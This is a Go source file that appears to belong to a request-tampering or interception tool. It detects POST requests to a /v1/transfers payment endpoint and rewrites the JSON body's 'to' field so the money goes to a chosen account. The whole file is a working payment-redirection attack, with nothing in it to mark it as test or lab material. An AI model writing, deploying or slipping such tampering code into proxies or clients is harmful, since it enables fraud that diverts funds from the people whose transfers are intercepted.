package network

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
)

// IsPayment tells whether a call is the one that moves money.
func IsPayment(method, target string) bool {
	path, _, _ := strings.Cut(target, "?")
	return method == http.MethodPost && strings.HasSuffix(path, "/v1/transfers")
}

// WithPayee is the body of a payment with another payee. Numbers stay as they were
// written.
func WithPayee(body []byte, payee string) ([]byte, error) {
	decoder := json.NewDecoder(bytes.NewReader(body))
	decoder.UseNumber()
	var payment map[string]any
	if err := decoder.Decode(&payment); err != nil {
		return nil, fmt.Errorf("read the payment: %w", err)
	}
	if _, ok := payment["to"].(string); !ok {
		return nil, fmt.Errorf("the payment names no payee")
	}
	payment["to"] = payee
	return json.Marshal(payment)
}

// ToAccount is a [Tampering] that has payments go to the account.
func ToAccount(payee string) Tampering {
	return func(request *http.Request) (bool, error) {
		if !IsPayment(request.Method, request.URL.RequestURI()) {
			return false, nil
		}
		body, err := io.ReadAll(io.LimitReader(request.Body, MaxBody))
		if err != nil {
			return false, err
		}
		if body, err = WithPayee(body, payee); err != nil {
			return false, err
		}
		request.Body = io.NopCloser(bytes.NewReader(body))
		request.ContentLength = int64(len(body))
		return true, nil
	}
}
